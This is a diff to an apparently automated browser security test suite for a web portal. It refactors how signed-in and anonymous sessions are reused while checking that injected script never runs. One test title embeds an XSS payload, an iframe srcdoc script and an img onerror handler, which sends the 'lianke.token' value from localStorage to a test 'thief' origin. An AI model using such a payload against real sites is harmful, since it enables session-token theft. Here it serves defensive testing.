@@ -80,7 +80,7 @@ const show = (page: Page, url: string): Promise<string> =>
 /** Opens each URL in one browser; resolves with what the screens said. `renew` sees to it that the person is still signed in. */
 async function showAll(phone: Phone, site: string, urls: readonly string[]): Promise<Map<string, string>> {
   const shown = new Map<string, string>()
-  const { kept } = { kept: await phone.context.storageState() }
+  const kept = await phone.context.storageState()
   const items = kept.origins[0]?.localStorage ?? []
   let next = 0
   const drive = async (): Promise<void> => {
@@ -124,10 +124,25 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
   let portal: Portal
   let company: FullCompany
   let site = ''
+  /** A phone that heeds no policy and one that does, with what was found on each: nothing, after every test. */
+  const looks = new Map<boolean, { phone: Phone; found: string[] }>()
+  /** One of them, in the hands of somebody who has signed in or of nobody. */
+  const lookAs = async (person: 'linkman' | 'nobody', bypassCSP: boolean) => {
+    const look = looks.get(bypassCSP) ?? assert.fail('no phone')
+    const { domainId } = company.tenant
+    const { kept } =
+      person === 'linkman' ? await portal.signIn(company.engineer.as, company.linkman.phone) : { kept: {} }
+    await look.phone.become({ domainId, ...kept })
+    return look
+  }
   before(async () => {
     portal = await openPortal()
     company = await openFullCompany(portal)
     site = portal.url + SITE_PATH
+    for (const bypassCSP of [true, false]) {
+      const phone = await company.visitor({ bypassCSP })
+      looks.set(bypassCSP, { phone, found: await watch(phone.context, portal.url) })
+    }
   })
   after(() => portal.stop())
 
@@ -139,8 +154,7 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
       const title = `<iframe srcdoc="<script>top.location='${thief.origin}/?t='+encodeURIComponent(parent.localStorage['lianke.token'])</script>"></iframe><img src=x onerror="location='${thief.origin}/?t='+localStorage['lianke.token']">`
       const article = await makeWiki(portal.db, company.tenant.id, { texts: { zh: title } })
       try {
-        const phone = await company.signedIn({ bypassCSP })
-        const found = await watch(phone.context, portal.url)
+        const { phone, found } = await lookAs('linkman', bypassCSP)
         for (const url of [
           `/wiki/wikiProductList?catalogId=${encodeURIComponent(title)}`,
           `/wiki/detail/${article.id}`,
@@ -155,7 +169,6 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
           assert.ok(await phone.kept('token'))
         }
         assert.deepEqual([thief.got, found], [[], []])
-        await phone.context.close()
       } finally {
         thief.stop()
       }
@@ -163,26 +176,25 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
 
     test(`nothing in a link runs, on no screen, ${way}`, async t => {
       const some = quarter(HOSTILE_URLS, url => url)
-      const ways: [Phone, readonly string[]][] = bypassCSP
+      const ways: ['linkman' | 'nobody', readonly string[]][] = bypassCSP
         ? [
-            [await company.signedIn({ bypassCSP }), [...HOSTILE_URLS, ...ONE_BY_ONE]],
-            [await company.visitor({ bypassCSP }), [...new Set([...OPEN_URLS, ...some])]],
+            ['linkman', [...HOSTILE_URLS, ...ONE_BY_ONE]],
+            ['nobody', [...new Set([...OPEN_URLS, ...some])]],
           ]
-        : [[await company.signedIn({ bypassCSP }), some]]
-      for (const [phone, urls] of ways) {
-        const found = await watch(phone.context, portal.url)
+        : [['linkman', some]]
+      for (const [person, urls] of ways) {
+        const { phone, found } = await lookAs(person, bypassCSP)
         const shown = await showAll(phone, site, urls)
         assert.deepEqual(found, [])
         assert.equal(shown.size, new Set(urls).size)
         const drawn = [...shown.values()].filter(text => text.includes('lianke-canary')).length
         t.diagnostic(`${String(shown.size)} URLs, on ${String(drawn)} of them the text was drawn`)
-        await phone.context.close()
       }
     })
 
     test(`nothing in the address before the hash runs, ${way}`, async () => {
-      const phone = await portal.visitor({ bypassCSP, domainId: '' })
-      const found = await watch(phone.context, portal.url)
+      const { phone, found } = await lookAs('nobody', bypassCSP)
+      await phone.become({ domainId: '' })
       for (const query of [
         `?domainId=${hostile}`,
         `?domainId=${company.tenant.domainId}&from=${hostile}&code=${hostile}&state=${hostile}&token=${hostile}&${hostile}`,
@@ -192,12 +204,10 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
         await show(phone.page, '/mall/index')
       }
       assert.deepEqual(found, [])
-      await phone.context.close()
     })
 
     test(`nothing that waits behind the login runs after it, ${way}`, async () => {
-      const phone = await company.visitor({ bypassCSP })
-      const found = await watch(phone.context, portal.url)
+      const { phone, found } = await lookAs('nobody', bypassCSP)
       await phone.open(`/wiki/wikiProductList?catalogId=${hostile}`)
       await phone.at('/login')
       await phone.tap(login('byAccount'))
@@ -205,7 +215,6 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
       await phone.at('/wiki/wikiProductList')
       await eventually(async () => assert.ok((await phone.page.title()).startsWith(HOSTILE), await phone.page.title()))
       assert.deepEqual(found, [])
-      await phone.context.close()
     })
   }
 
@@ -330,8 +339,7 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
       'a parameter that no screen has, or no value of it',
     )
     for (const bypassCSP of [true, false]) {
-      const phone = await company.signedIn({ bypassCSP })
-      const found = await watch(phone.context, portal.url)
+      const { phone, found } = await lookAs('linkman', bypassCSP)
       // what the policy would have to stop has not run without it
       const shown = await showAll(phone, site, bypassCSP || WHOLE ? urls : urls.filter((_, n) => n % 4 === 0))
       assert.deepEqual(found, [])
@@ -341,7 +349,6 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
       )
       // the texts did reach the screens
       assert.ok(drawn.length > shown.size / 2, `${String(drawn.length)} of ${String(shown.size)}`)
-      await phone.context.close()
     }
   })
 })
